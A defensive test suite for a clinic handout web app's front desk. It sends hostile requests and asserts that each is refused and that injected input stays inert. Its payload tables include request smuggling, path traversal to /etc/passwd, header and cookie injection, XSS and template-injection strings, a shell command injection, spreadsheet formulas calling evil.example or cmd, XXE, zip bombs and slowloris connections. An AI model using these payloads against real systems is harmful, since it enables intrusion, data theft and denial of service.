"""Hostile requests to the front desk's page: none is let in, and none leaves a trace.

Each is sent byte by byte as it stands here, so that no library of ours makes it tidy before.
"""

import io
import json
import re
import socket
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from handouts.web import head
from handouts.web.app import MAX_BODY, MAX_UPLOAD, Door, private_app
from handouts.web.desk.own.draft import NAME as DRAFT
from handouts.web.desk.page import DeskPage
from handouts.web.serve import serving
from tests.web.desked import Desked, desked
from tests.web.served import Served, text

MARK = "hostile7"
"""Stands in what is sent; no answer repeats it."""
FORM = "application/x-www-form-urlencoded"
PICK = "row=3"


@dataclass(frozen=True, slots=True)
class Open:
    """A desk at which a patient is picked, with the pages there."""

    desk: Desked
    token: str
    key: str
    used: str
    """A ticket that let the right browser in."""

    def fill(self, words: str) -> bytes:
        """A request with what only the right browser knows."""
        door = self.desk.door
        known = {
            "host": door.host, "port": str(door.port), "secret": door.secret, "name": door.cookie,
            "token": self.token, "key": self.key, "used": self.used, "mark": MARK,
        }  # fmt: skip
        return re.sub(r"<(\w+)>", lambda it: known[it[1]], words).encode("latin-1")

    def send(self, words: str) -> bytes:
        """All that is answered until the line is closed."""
        heard = b""
        with socket.create_connection(("127.0.0.1", self.desk.door.port), timeout=60) as line:
            try:
                line.sendall(self.fill(words))
                line.shutdown(socket.SHUT_WR)
                while more := line.recv(65_536):
                    heard += more
            except OSError:  # it is closed while we still talk, at whichever step
                pass
        return heard

    def trace(self) -> tuple[Any, list[str]]:
        """What the page shows, and which files there are."""
        shown = json.loads(text(self.desk.ask("/news?seen=-1")))
        # What is laid out ahead goes on by itself, and so does the draft of what is typed.
        files = sorted(
            str(path.relative_to(self.desk.folder))
            for path in self.desk.folder.rglob("*")
            if ".forms" not in path.parts and DRAFT not in path.name
        )
        return shown, files


def get(address: str = "/", **changes: str | None) -> str:
    """A page that the right browser asks for, with some headers other or (None) missing."""
    own = {"Host": "<host>", "Cookie": "<name>=<secret>", "Sec_Fetch_Site": "same-origin"}
    method = changes.pop("method", "GET")
    lines = [f"{method} {address} HTTP/1.1"]
    lines += [f"{it.replace('_', '-')}: {said}" for it, said in (own | changes).items() if said]
    return "\r\n".join([*lines, "Connection: close", "", ""])


def post(address: str = "/pick", body: str = PICK, **changes: str | None) -> str:
    """A button that the right browser presses, with some headers other or (None) missing."""
    own = {"Origin": "http://<host>", "Content_Type": FORM, "Content_Length": str(len(body))}
    return get(address, **({"method": "POST"} | own | changes)) + body


HOSTS = {
    "another name of this machine": "localhost:<port>",
    "a name that was bent to this machine": "evil.example:<port>",
    "a name with our address in it": "127.0.0.1.evil.example:<port>",
    "our address as the beginning of a name": "<host>.evil.example",
    "a user before our address": "evil@<host>",
    "our address as one number": "2130706433:<port>",
    "our address in short": "127.1:<port>",
    "our address in octal": "0177.0.0.1:<port>",
    "another address of this machine": "127.0.0.2:<port>",
    "every address": "0.0.0.0:<port>",
    "our address of the new kind": "[::1]:<port>",
    "our address inside the new kind": "[::ffff:127.0.0.1]:<port>",
    "a wrong port": "127.0.0.1:1",
    "no port": "127.0.0.1",
    "a dot behind our address": "127.0.0.1.:<port>",
    "two hosts in a line": "<host>, evil.example",
    "two hosts with a space": "evil.example <host>",
    "our host on a line of its own": "evil.example\r\n <host>",
    "two lines, the wrong one first": "evil.example\r\nHost: <host>",
    "two lines, the right one first": "<host>\r\nHost: evil.example",
    "twice the right one": "<host>\r\nHost: <host>",
    "our host only as a proxy tells it": "evil.example\r\nX-Forwarded-Host: <host>",
    "an empty host": " ",
}
BROWSERS = {
    "a link of another site": get(Sec_Fetch_Site="cross-site"),
    "a link of another port": get(Sec_Fetch_Site="same-site"),
    "two places that it came from": get(Sec_Fetch_Site="same-origin, cross-site"),
    "a picture on another site": get("/pages/<token>/1/1-1.jpg", Sec_Fetch_Site="cross-site"),
    "a handout in another site's frame": get("/handout/<token>.pdf", Sec_Fetch_Site="cross-site"),
    "the news on another site": get("/news?seen=-1", Sec_Fetch_Site="cross-site"),
    "a form of another site": post(Origin="http://evil.example", Sec_Fetch_Site="cross-site"),
    "a form of another site, in an old browser": post(
        Origin="http://evil.example", Sec_Fetch_Site=None),
    "a form of another port": post(Origin="http://127.0.0.1:1", Sec_Fetch_Site=None),
    "a form of our name": post(Origin="http://localhost:<port>", Sec_Fetch_Site=None),
    "a form of our address, but secured": post(Origin="https://<host>"),
    "a form with our address and more": post(Origin="http://<host>.evil.example"),
    "a form of two sites": post(Origin="http://<host>\r\nOrigin: http://evil.example"),
    "a form of nowhere": post(Origin="null", Sec_Fetch_Site=None),
    "a form that does not say from where": post(Origin=None, Sec_Fetch_Site=None),
    "a form typed into the address": post(Origin=None, Sec_Fetch_Site="none"),
    "a question whether one may": get(
        "/pick", method="OPTIONS", Origin="http://evil.example",
        Access_Control_Request_Method="POST", Sec_Fetch_Site="cross-site"),
    "a question whether one may, from within": get(
        "/pick", method="OPTIONS", Origin="http://<host>", Access_Control_Request_Method="POST"),
    "a question whether one may from the network": get(
        method="OPTIONS", Origin="http://evil.example", Sec_Fetch_Site="cross-site",
        Access_Control_Request_Private_Network="true"),
}  # fmt: skip
SECRETS = {
    "no cookie": get(Cookie=None),
    "no cookie for the news": get("/news?seen=-1", Cookie=None),
    "no cookie for a style": get("/desk.css", Cookie=None),
    "no cookie for a picture": get("/pages/<token>/1/1-1.jpg", Cookie=None),
    "no cookie for a handout": get("/handout/<token>.pdf", Cookie=None),
    "no cookie for a button": post(Cookie=None),
    "no cookie for what is not there": get("/<mark>", Cookie=None),
    "an empty cookie": get(Cookie="<name>="),
    "a wrong cookie": get(Cookie="<name>=<mark>"),
    "the cookie of an earlier start": get(Cookie="<name>=" + "x" * 43),
    "a cookie that is too long": get(Cookie="<name>=<secret>x"),
    "a cookie in quotes with more": get(Cookie='<name>="<secret>x"'),
    "a cookie that is no text": get(Cookie="<name>=\xe9\xff"),
    "the cookie of another port": get(Cookie="handouts-1=<secret>"),
    "the cookie under another name": get(Cookie="session=<secret>"),
    "a wrong cookie before the right one": get(Cookie="<name>=<mark>; <name>=<secret>"),
    "two lines of cookies": get(Cookie="<name>=<mark>\r\nCookie: <name>=<secret>"),
    "the secret as a password": get(Cookie=None, Authorization="Bearer <secret>"),
    "the secret in the address": get("/?<name>=<secret>", Cookie=None),
    "no ticket": get("/start", Cookie=None),
    "a wrong ticket": get("/start?ticket=<mark>", Cookie=None),
    "a ticket that was used": get("/start?ticket=<used>", Cookie=None),
    "a used ticket among others": get("/start?ticket=x&ticket=<used>", Cookie=None),
    "the secret as a ticket": get("/start?ticket=<secret>", Cookie=None),
    "a ticket from another site": get(
        "/start?ticket=<used>", Cookie=None, Sec_Fetch_Site="cross-site"),
    "a ticket in a form": post("/start", "ticket=<used>", Cookie=None),
    "a way to be let in again, without a proof": get("/again", Cookie=None),
    "a way to be let in again, with a wrong proof": get(
        "/again", Cookie=None, Authorization="Handouts <mark> <mark>"),
}  # fmt: skip
METHODS = {
    "a button by a link": get("/pick?row=3"),
    "a button asked only for its headers": get("/pick?row=3", method="HEAD"),
    "a button by a link that says it is a form": get(
        "/pick?row=3&_method=POST", X_HTTP_Method_Override="POST"),
    "a page by a form that says it is a link": post("/", "_method=GET", X_HTTP_Method="GET"),
    "a handout by a form": post("/handout/<token>.pdf", ""),
    "deleting": post("/", method="DELETE"),
    "putting": post("/pick", method="PUT"),
    "patching": post("/pick", method="PATCH"),
    "tracing": get(method="TRACE"),
    "what the server can": get(method="OPTIONS"),
    "what the server can at all": get("*", method="OPTIONS"),
    "a way through to another machine": get("evil.example:443", method="CONNECT"),
    "the method of another protocol": get(method="PROPFIND"),
    "a method of its own": get(method=MARK.upper()),
    "a method in small letters": get(method="get"),
}  # fmt: skip
LINES = {
    "the address of another host": get("http://evil.example/"),
    "our address in full": get("http://<host>/"),
    "an address without a scheme": get("//evil.example/<mark>"),
    "an address without a slash": get("<mark>"),
    "no version": "GET /\r\nHost: <host>\r\nCookie: <name>=<secret>\r\n\r\n",
    "the oldest version": "GET / HTTP/0.9\r\nHost: <host>\r\nCookie: <name>=<secret>\r\n\r\n",
    "the version before, without a host": "GET / HTTP/1.0\r\nCookie: <name>=<secret>\r\n\r\n",
    "a version to come": "GET / HTTP/3.0\r\nHost: <host>\r\nCookie: <name>=<secret>\r\n\r\n",
    "the preface of HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "no request at all": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03<mark>\r\n\r\n",
    "a request that never ends": "GET / HTTP/1.1\r\nHost: <host>\r\n",
    "a space behind a header's name": get(**{"X ": "<mark>"}),
    "a header without a name": get(**{"": "<mark>"}),
    "a header with a line's end in it": get(X="a\n<mark>: b"),
    "a header with half a line's end in it": get(X="a\r<mark>: b"),
    "a header that begins with a space": get("/", Host=None).replace(
        "HTTP/1.1\r\n", "HTTP/1.1\r\n <mark>\r\n"),
    "a huge header": get(X="x" * 40_000),
    "very many headers": get(X="\r\n".join(["x", *(f"X{it}: <mark>" for it in range(5_000))])),
    "a huge address": get("/" + "x" * 40_000),
    "a long address": get("/" + "<mark>" * 2_000),
    "a second request behind one that is no request": (
        "GET / HTTP/9.9\r\nHost: <host>\r\n\r\n" + get("/pick?row=3")),
    "a second request behind one that is refused": get(Host="evil.example") + get(
        "/handout/<token>.pdf", Cookie=None),
}  # fmt: skip
BODIES = {
    "a huge form": post("/search", "search=" + "x" * MAX_BODY),
    "a form of very many fields": post("/change", "&".join(["x=y"] * 100_000)),
    "a form that says it is huge": post(Content_Length="99999999999"),
    "a form longer than any number": post(Content_Length="9" * 6_000),
    "a form of less than nothing": post(Content_Length="-1"),
    "a form with a length in words": post(Content_Length="five"),
    "a form of two lengths": post(Content_Length="5\r\nContent-Length: 50"),
    "a form that is longer than it comes": post(Content_Length="50"),
    "a form in pieces": post(
        body="5\r\nrow=3\r\n0\r\n\r\n", Transfer_Encoding="chunked", Content_Length=None),
    "a form in endless pieces": post(
        body="ffffffff\r\nrow=3", Transfer_Encoding="chunked", Content_Length=None),
    "a form in pieces, and a length": post(
        body="0\r\n\r\n" + post(), Transfer_Encoding="chunked", Content_Length="5"),
    "a length, and a form in hidden pieces": post(Transfer_Encoding=" , chunked"),
    "a form in pieces of the version before": post(
        body="5\r\nrow=3\r\n0\r\n\r\n", Transfer_Encoding="chunked").replace("1.1", "1.0", 1),
    "a packed form": post(Transfer_Encoding="gzip"),
    "a form as plain text": post(Content_Type="text/plain"),
    "a form of no kind": post(Content_Type=None),
    "a form of two kinds": post(Content_Type=f"text/plain\r\nContent-Type: {FORM}"),
    "JSON in place of a form": post(body='{"row": 3}', Content_Type="application/json"),
    "JSON of JSON of JSON": post(body="[" * 50_000, Content_Type="application/json"),
    "a form with a file": post(
        body='--x\r\nContent-Disposition: form-data; name="row"\r\n\r\n3\r\n--x--\r\n',
        Content_Type="multipart/form-data; boundary=x"),
    "a form of very many parts": post(
        body='--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' * 1_000 + "--x--\r\n",
        Content_Type="multipart/form-data; boundary=x"),
    "a file in place of a form": post(Content_Type="application/octet-stream"),
    "XML in place of a form": post(
        body='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', Content_Type="text/xml"),
}  # fmt: skip
FILE = {"Content_Type": "application/octet-stream", "X_File": "<mark>.csv"}
FILES = {
    "a file without the cookie": post("/list", MARK, Cookie=None, **FILE),
    "a file with a wrong cookie": post("/list", MARK, Cookie="<name>=<mark>", **FILE),
    "a large file without the cookie": post("/list", MARK * 50_000, Cookie=None, **FILE),
    "a file from another site": post("/list", MARK, Origin="http://evil.example", **FILE),
    "a file from nowhere": post("/list", MARK, Origin="null", Sec_Fetch_Site=None, **FILE),
    "a file for another name of ours": post("/list", MARK, Host="localhost:<port>", **FILE),
    "a file by a link": get("/list", **FILE),
    "a file that is put": post("/list", MARK, method="PUT", **FILE),
    "a file as plain text": post("/list", MARK, Content_Type="text/plain"),
    "a file of no kind": post("/list", MARK, Content_Type=None),
    "a file as a long form": post("/list", "file=" + MARK * 10_000),
    "a file in pieces": post(
        "/list", "5\r\n12345\r\n0\r\n\r\n", Transfer_Encoding="chunked", **FILE),
    "a file that is too large": post("/list", "x" * (MAX_UPLOAD + 1), **FILE),
    "a file that says it is too large": post(
        "/list", MARK, Content_Length="99999999999", **FILE),
    "a file where none is taken": post("/search", MARK, **FILE),
    "a file of very many parts": post(
        "/list",
        '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' * 100_000 + "--x--\r\n",
        Content_Type="multipart/form-data; boundary=x"),
    "a file beside a huge field": post(
        "/list",
        '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
        + "x" * 1_000_000 + "\r\n--x--\r\n",
        Content_Type="multipart/form-data; boundary=x"),
    "a part with a huge head": post(
        "/list", "--x\r\nContent-Disposition: form-data; name=" + "a" * 1_000_000,
        Content_Type="multipart/form-data; boundary=x"),
}  # fmt: skip
TODAY = (
    "/search", "/pick", "/new", "/blank", "/change", "/leave", "/back", "/wake", "/list",
    "/own-list", "/day", "/retry", "/dialog", "/print", "/take-back", "/close",
)  # fmt: skip
TOMORROW = tuple(
    f"/tomorrow/{name}" for name in (
        "drop", "read", "forget", "ask", "day", "mend", "undo", "out", "in", "make", "cancel",
        "print", "wake", "type",
    )
)  # fmt: skip
BUTTONS = {
    f"{button} {how}": request
    for button in (*TODAY, *TOMORROW)
    for how, request in {
        "without the cookie": post(button, "row=3", Cookie=None),
        "from another site": post(
            button, "row=3", Origin="http://evil.example", Sec_Fetch_Site="cross-site"),
        "by a link": get(f"{button}?row=3"),
    }.items()
}  # fmt: skip
ADDRESSES = {
    "a way out": "/../../../../etc/passwd",
    "a hidden way out": "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "a way out, hidden twice": "/%252e%252e/%252e%252e/etc/passwd",
    "a way out, hidden in a long form": "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "a way out as Windows writes it": "/..\\..\\windows\\win.ini",
    "a way out behind a style": "/desk.css/../../handouts.yaml",
    "a way out behind a handout": "/handout/..%2f..%2fhandouts.yaml.pdf",
    "a way out behind a picture": "/pages/<token>/1/..%2f..%2fetc%2fpasswd",
    "a file of the disk": "/file:///etc/passwd",
    "the day's list": "/today.csv",
    "the clinic's settings": "/handouts.yaml",
    "what outlives a restart": "/.desk/running.json",
    "a template": "/desk.html",
    "a file of the program": "/page.py",
    "the files of a version": "/.git/config",
    "a debugger": "/console",
    "an end in the middle": "/handout/<token>%00.pdf",
    "an end of the line": "/handout/<token>.pdf%0d%0aSet-Cookie:<mark>=1",
    "a handout of a guessed token": "/handout/" + "A" * 22 + ".pdf",
    "a handout of a long token": "/handout/<token><token>.pdf",
    "a handout of no token": "/handout/.pdf",
    "a handout of a key": "/handout/<key>.pdf",
    "a handout in a folder": "/handout/<token>.pdf/",
    "a handout of letters from elsewhere": "/handout/%e2%80%aefdp.pdf",
    "a picture of a guessed token": "/pages/" + "A" * 22 + "/1/1-1.jpg",
    "a picture of no page": "/pages/<token>/1/0-1.jpg",
    "a picture of a page that is not there": "/pages/<token>/1/999999999999999999999-1.jpg",
    "a picture of no sheet": "/pages/<token>/0/1-1.jpg",
    "a picture of a sheet that is not there": "/pages/<token>/999999999999/1-1.jpg",
    "a picture as large as the machine": "/pages/<token>/1/1-1000000.jpg",
    "a picture of less than nothing": "/pages/<token>/1/-1--1.jpg",
    "a stack of a guessed run": "/tomorrow/ABCDEF12/1.pdf",
    "a stack outside of its folder": "/tomorrow/..%2f..%2fhandouts.yaml/1.pdf",
    "a cover list of a guessed run": "/tomorrow/ABCDEF12/cover.pdf",
}
HOSTILE = {
    **{f"host: {name}": get(Host=host) for name, host in HOSTS.items()},
    "host: none": get(Host=None),
    **BROWSERS,
    **SECRETS,
    **METHODS,
    **LINES,
    **BODIES,
    **FILES,
    **BUTTONS,
    **{f"address: {name}": get(address) for name, address in ADDRESSES.items()},
}


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Open]:
    with desked(tmp_path_factory.mktemp("hostile") / "clinic") as served:
        door = served.door
        used = door.tickets.first
        assert served.ask(f"/start?ticket={used}", Cookie=None).status == 303
        assert served.ask("/pick", body="row=2").status == 303
        news = {"making": True, "number": -1}
        while news["making"]:
            news = json.loads(text(served.ask(f"/news?seen={news['number']}")))
        token = re.search(r'name="token" value="([\w-]+)"', text(served.ask("/")))
        key = re.search(r'name="key" value="([\w-]+)"', text(served.ask("/")))
        assert token is not None
        assert key is not None
        yield Open(served, token[1], key[1], used)


def statuses(heard: bytes) -> list[int]:
    """How each answer begins."""
    return [int(it) for it in re.findall(rb"HTTP/1\.[01] (\d{3}) ", heard)]


def test_the_same_requests_are_let_in_when_nothing_is_wrong_with_them(desk: Open) -> None:
    assert statuses(desk.send(get())) == [200]
    assert statuses(desk.send(get("/handout/<token>.pdf"))) == [200]
    assert statuses(desk.send(get("/pages/<token>/1/1-1.jpg"))) == [200]
    assert statuses(desk.send(post("/search", "search="))) == [303]
    assert statuses(desk.send(get("/start?ticket=<used>"))) == [303]


def test_there_are_many() -> None:
    assert len(HOSTILE) > 150


def test_every_button_of_the_desk_is_among_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    apps: list[Flask] = []
    whole = DeskPage.app

    def noted(page: DeskPage, door: Door) -> Flask:
        apps.append(whole(page, door))
        return apps[-1]

    monkeypatch.setattr(DeskPage, "app", noted)
    with desked(tmp_path / "clinic"):
        (app,) = apps
    buttons = {it.rule for it in app.url_map.iter_rules() if "POST" in (it.methods or ())}
    assert buttons == {*TODAY, *TOMORROW}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_request_is_refused_and_leaves_no_trace(
    desk: Open, name: str, capfd: pytest.CaptureFixture[str]
) -> None:
    before = desk.trace()
    heard = desk.send(HOSTILE[name])
    assert all(status >= 400 for status in statuses(heard)), heard[:200]
    assert b"500" not in heard[:15]
    for word in (MARK, "Example", "root:", "Set-Cookie", "Traceback", "waitress", "\nAllow:"):
        assert word.casefold().encode() not in heard.lower(), word
    assert not heard or b"no-store" in heard
    assert desk.trace() == before
    assert capfd.readouterr() == ("", "")


NASTY = {
    "markup": f"<script>alert('{MARK}')</script>",
    "an attribute's end": f'" autofocus onfocus="{MARK}',
    "a text's end": f"</textarea></select><b>{MARK}",
    "a template": f"{{{{ 7 * 7 }}}}{{% include 'desk.html' %}}{MARK}",
    "a template's way in": "{{ cycler.__init__.__globals__ }}" + MARK,
    "a format": "{0.__class__} %s %n ${7*7} #{7*7}" + MARK,
    "a command": f"$(touch {MARK}); `touch {MARK}` | touch {MARK}",
    "a formula": f"=HYPERLINK(\"http://evil.example/{MARK}\")",
    "a way out": f"../../../../etc/passwd{MARK}",
    "lines": f"a\r\nSet-Cookie: {MARK}=1\r\n\r\n<b>",
    "an end": f"a\0{MARK}",
    "signs that turn the text round": f"\u202e{MARK}\u2066\u200b",
    "half a letter": f"{MARK}\ud800",
    "a long word": MARK * 100,
}  # fmt: skip
FIELDS = (
    "patient", "born", "record", "treatment", "date", "time", "ends", "clinician", "room",
    "language", "edition", "visit_type", "dose_band", "risks", "note",
)  # fmt: skip


def encoded(value: str) -> str:
    """As a form sends it, whatever it is."""
    return "".join(f"%{byte:02x}" for byte in value.encode("utf-8", "surrogatepass"))


@pytest.mark.parametrize("name", NASTY)
def test_what_is_typed_comes_back_as_text_and_does_nothing(
    desk: Open, name: str, capfd: pytest.CaptureFixture[str]
) -> None:
    before = desk.trace()[1]
    typed = encoded(NASTY[name])
    body = "&".join([f"key={desk.key}", *(f"{field}={typed}" for field in FIELDS)])
    changed = desk.desk.ask("/change", body=body)
    searched = desk.desk.ask("/search", body=f"search={typed}")
    page = text(desk.desk.ask("/"))
    told = text(desk.desk.ask("/news?seen=-1"))
    assert (changed.status, searched.status) == (303, 303)
    assert changed.getheader("Set-Cookie") is None
    assert MARK in page
    regions = "".join(json.loads(told)["regions"].values())
    for shown in (page, regions):
        assert f"<script>alert('{MARK}" not in shown
        assert f'onfocus="{MARK}' not in shown
        assert f"<b>{MARK}" not in shown
    assert desk.trace()[1] == before
    assert capfd.readouterr() == ("", "")
    assert desk.desk.ask("/search", body="search=").status == 303


def test_a_template_that_is_typed_stays_as_it_was_typed(desk: Open) -> None:
    body = f"key={desk.key}&note=" + encoded("{{ 7 * 7 }}")
    assert desk.desk.ask("/change", body=body).status == 303
    assert "{{ 7 * 7 }}</textarea>" in text(desk.desk.ask("/"))


@pytest.mark.parametrize(
    "body",
    [
        "__proto__=x&constructor=x&prototype=x", "key[]=x&patient[]=x", "key=&patient=<mark>",
        "key=%00&patient=<mark>", "key=x&patient=<mark>", "patient=<mark>",
        "key=x&key=y&patient=<mark>",
    ],
)  # fmt: skip
def test_a_form_of_another_pick_changes_nothing(desk: Open, body: str) -> None:
    def shown() -> dict[str, str]:
        told = json.loads(text(desk.desk.ask("/news?seen=-1")))["regions"]
        return {it: html for it, html in told.items() if it != "notice"}

    before = shown()
    assert desk.desk.ask("/change", body=body.replace("<mark>", MARK)).status == 303
    assert shown() == before


@pytest.mark.parametrize("row", ["-1", "0", "99999999999999999999", "x", "", "1e3", "2%00", "__"])
def test_a_row_that_is_not_on_the_list_picks_nobody(desk: Open, row: str) -> None:
    before = json.loads(text(desk.desk.ask("/news?seen=-1")))["key"]
    assert desk.desk.ask("/pick", body=f"row={row}").status == 303
    assert json.loads(text(desk.desk.ask("/news?seen=-1")))["key"] == before


def bomb() -> bytes:
    """A workbook of 100 kB that unpacks to 100 MB."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        packed.writestr("xl/workbook.xml", "<workbook/>")
        packed.writestr("xl/worksheets/sheet1.xml", b" " * 100_000_000)
    return file.getvalue()


ENTITIES = b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 1_000 + b'">]><a>' + b"&b;" * 50_000 + b"</a>"
NASTY_FILES = {
    "a workbook that is far larger inside": ("a.xlsx", bomb()),
    "a workbook that is none": ("a.xlsx", b"PK\x03\x04" + b"\xff" * 5_000),
    "an old workbook that is none": ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 900),
    "a document that is none": ("a.ods", bomb()[:5_000]),
    "JSON of JSON of JSON": ("a.json", b"[" * 1_000_000),
    "JSON of numbers without an end": ("a.json", b'{"resourceType": ' + b"9" * 500_000 + b"}"),
    "a message without an end": ("a.hl7", b"MSH|^~\\&|" + b"|" * 1_000_000),
    "XML with words in words": ("a.xml", ENTITIES),
    "a table of one endless line": ("a.csv", b"patient," * 1_000_000),
    "a table with an open quote": ("a.csv", b'patient,born\n"' + b"x,\n" * 500_000),
    "a table of formulas": ("a.csv", b"patient,born\n=cmd|'/c calc'!A1,@SUM(1)\n"),
    "a table with ends in it": ("a.csv", b"patient\0,born\n\0\0\n"),
    "nothing": ("a.csv", b""),
    "markup as a table": ("a.csv", f"patient,born\n<script>alert('{MARK}')</script>,x\n".encode()),
    "a name that is markup": (f"<script>alert('{MARK}')</script>.csv", b"x"),
    "a name that leads out": (f"../../../{MARK}.csv", b"x"),
    "a name that is a way in Windows": (f"C:\\{MARK}.csv", b"x"),
    "a name with lines": (f"a\r\nSet-Cookie: {MARK}=1\r\n.csv", b"x"),
    "a name with an end": (f"a\0{MARK}.csv", b"x"),
    "a name that is very long": ("x" * 9_000 + ".csv", b"x"),
    "no name": ("", b"x"),
}


@pytest.mark.parametrize("name", NASTY_FILES)
def test_a_file_that_is_no_list_is_told_and_does_nothing(
    desk: Open, name: str, capfd: pytest.CaptureFixture[str]
) -> None:
    before = desk.trace()[1]
    called, data = NASTY_FILES[name]
    kind = "application/octet-stream"
    try:
        sent = desk.desk.ask("/list", body=data, Content_Type=kind, X_File=encoded(called) or None)
        page = desk.desk.ask("/")
        assert (sent.status, page.status) == (303, 200)
        assert sent.getheader("Set-Cookie") is None
        assert f"<script>alert('{MARK}" not in text(page)
        assert "Traceback" not in text(page)
        assert desk.trace()[1] == before
        assert capfd.readouterr() == ("", "")
    finally:
        assert desk.desk.ask("/own-list", body="").status == 303


def test_slow_senders_are_given_up_and_stop_nobody(
    desk: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    slow = [socket.create_connection(("127.0.0.1", desk.desk.door.port), 60) for _ in range(40)]
    try:
        for line in slow:
            line.sendall(b"GET / HTTP/1.1\r\n")
        assert desk.desk.ask("/").status == 200
        monkeypatch.setattr(head, "PATIENCE", -1.0)
        for line in slow:
            line.sendall(b"X")
        assert all(line.recv(100).startswith(b"HTTP/1.0 408") for line in slow)
    finally:
        for line in slow:
            line.close()


def test_a_fault_of_the_program_tells_nothing_and_the_page_goes_on(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    def build(door: Any) -> Any:
        app = private_app(door, "desk", {})
        app.add_url_rule("/", "page", lambda: "all is well")
        app.add_url_rule("/fault/<name>", "fault", lambda name: {}[name])
        return app

    with serving(build) as door:
        page = Served(tmp_path, door)
        for _ in range(20):
            answer = page.ask(f"/fault/{MARK}")
            assert answer.status == 500
            assert "The program itself has a fault" in text(answer)
            assert MARK not in text(answer)
        assert text(page.ask("/")) == "all is well"
    assert capfd.readouterr() == ("", "")
